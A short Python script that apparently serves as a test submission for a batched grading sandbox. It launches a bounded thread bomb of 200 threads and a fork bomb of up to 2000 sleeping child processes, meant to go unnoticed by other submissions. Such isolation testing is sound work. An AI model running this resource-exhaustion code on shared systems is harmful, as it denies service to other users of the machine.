# ruff: noqa
"""A fork bomb, and a thread bomb: the batch's honest students must not notice."""
# %% stubs
# %% added
import os, threading, time

for _ in range(200):
    try:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    except Exception:
        break
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
